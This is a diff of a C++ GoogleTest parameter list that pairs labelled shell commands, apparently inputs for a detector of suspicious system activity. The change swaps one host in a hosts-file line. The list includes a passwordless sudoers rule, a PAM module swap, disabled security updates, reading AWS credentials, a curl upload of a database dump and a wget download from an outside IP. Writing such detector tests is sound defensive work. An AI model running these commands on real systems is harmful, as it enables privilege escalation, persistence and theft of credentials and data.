@@ -37,7 +37,7 @@ INSTANTIATE_TEST_SUITE_P(
                     Shown{"echo 'w ALL=(ALL) NOPASSWD: ALL' > /etc/sudoers.d/w", "sudo-rule"},
                     Shown{"cp pam_x.so /lib/x86_64-linux-gnu/security/pam_x.so", "pam-changed"},
                     Shown{"systemctl mask unattended-upgrades", "updates-off"},
-                    Shown{"echo '127.0.0.1 security.debian.org' >> /etc/hosts", "hosts-changed"}, Shown{"cat ~/.aws/credentials", "credentials-read"},
+                    Shown{"echo '127.0.0.1 security.ubuntu.com' >> /etc/hosts", "hosts-changed"}, Shown{"cat ~/.aws/credentials", "credentials-read"},
                     Shown{"aws s3 sync s3://b /var/tmp/b", "bulk-copy"}, Shown{"curl -T dump.sql http://203.0.113.9/", "upload"},
                     Shown{"mkdir -p /usr/lib/.x", "hidden-place"}, Shown{"/var/tmp/.x/install.sh", "hidden-place"},
                     Shown{"wget -q http://203.0.113.9/m.tgz -O /tmp/m.tgz", "anonymous-download"}));
